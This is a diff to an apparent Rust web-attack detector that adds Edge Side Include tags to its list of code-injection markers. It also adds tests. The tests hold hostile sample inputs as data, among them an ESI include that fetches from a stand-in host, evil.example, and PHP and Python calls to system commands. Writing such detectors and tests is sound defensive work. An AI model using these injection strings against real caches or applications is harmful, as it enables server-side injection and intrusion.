@@ -85,6 +85,14 @@ const CODE_MARKERS: &[(&str, u8, Attack)] = &[
     ("<!--#echo", 80, Attack::CodeInjection),
     ("<!--#config", 80, Attack::CodeInjection),
     ("<!--#printenv", 80, Attack::CodeInjection),
+    // Edge Side Includes, run by the cache in front of the application (Varnish,
+    // Fastly, Akamai): no visitor sends one
+    ("<esi:include", 85, Attack::CodeInjection),
+    ("<esi:inline", 85, Attack::CodeInjection),
+    ("<esi:vars", 80, Attack::CodeInjection),
+    ("<esi:debug", 80, Attack::CodeInjection),
+    ("<esi:eval", 85, Attack::CodeInjection),
+    ("<esi:assign", 80, Attack::CodeInjection),
     ("<?php", 90, Attack::CodeInjection),
     ("!!python/", 90, Attack::CodeInjection),
     ("call_user_func_array", 85, Attack::CodeInjection),
@@ -534,6 +542,9 @@ mod tests {
         ));
         assert!(c("__import__('os').system('id')"));
         assert!(c("<!--#exec cmd=\"ls\" -->"));
+        assert!(c("<esi:include src=http://evil.example/>"));
+        assert!(c("x<esi:debug/>"));
+        assert!(!c("the esi:include tag is documented here"));
         // PHP's complex (curly) syntax running a call
         assert!(c("{${sleep(10)}}"));
         assert!(c(" {${system(id)}}"));
